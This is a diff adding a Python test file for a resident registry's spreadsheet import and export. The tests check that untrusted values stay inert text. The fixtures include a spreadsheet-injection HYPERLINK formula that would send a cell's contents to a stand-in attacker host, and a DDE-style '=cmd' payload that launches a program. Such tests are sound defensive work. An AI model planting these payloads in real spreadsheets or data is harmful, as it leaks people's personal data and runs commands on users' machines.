@@ -1,0 +1,67 @@
+"""What must not leak from the registry: values turned into formulas in a spreadsheet, whole ID
+numbers and phones in stored messages and logs, an import's report or raw rows to people who
+did not upload it, whole numbers confirmed by search, a consenting guardian's name."""
+
+from __future__ import annotations
+
+import datetime
+import io
+
+from openpyxl import load_workbook
+
+from tests.conftest import login
+from tests.residents.factories_residents import HouseholdFactory, ResidentFactory, id_for
+from tests.spreadsheets import write_csv
+from wushe.core.models import Job
+
+ID_A = id_for(datetime.date(1941, 5, 6), 123)
+# The same number with a wrong check digit: rejected, but still a person's whole ID number.
+BAD_ID = ID_A[:-1] + ("1" if ID_A[-1] == "0" else "0")
+BAD_PHONE = "1381234567"  # ten digits
+FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"点击")'
+
+
+def _upload(client, street, tmp_path, rows):
+    path = write_csv(tmp_path / "sheet.csv", rows)
+    with open(path, "rb") as handle:
+        response = client.post(
+            "/residents/import/",
+            {
+                "file": handle,
+                "area": street.community_a.code,
+                "legal_basis": "public_health_emergency",
+            },
+        )
+    assert response.status_code == 302
+    return Job.objects.latest("pk")
+
+
+def _cells(content):
+    return [c for row in load_workbook(io.BytesIO(content)).active.iter_rows() for c in row]
+
+
+def test_error_workbook_keeps_a_formula_as_text(client, street, people, tmp_path):
+    login(client, people.worker_a)
+    job = _upload(client, street, tmp_path, [["姓名", "身份证号", "楼号"], [FORMULA, BAD_ID, "1"]])
+    response = client.get(f"/residents/import/{job.pk}/rejected.xlsx")
+    assert response.status_code == 200
+    cells = _cells(response.content)
+    assert [c for c in cells if c.data_type == "f"] == []
+    assert FORMULA in [c.value for c in cells]
+
+
+def test_export_has_no_formula_cells(client, street, people):
+    household = HouseholdFactory(building=street.building_a1, unit="=1+1", room="@SUM(A1)")
+    ResidentFactory(
+        name="=cmd|' /C calc'!A0",
+        area=street.building_a1,
+        household=household,
+        emergency_contact="+1+1",
+        guardian="-2+3",
+    )
+    login(client, people.worker_a)
+    response = client.get("/residents/export.xlsx")
+    assert response.status_code == 200
+    cells = _cells(response.content)
+    assert [c.value for c in cells if c.data_type == "f"] == []
+    assert "=" + "*" * (len("=cmd|' /C calc'!A0") - 1) in [c.value for c in cells]
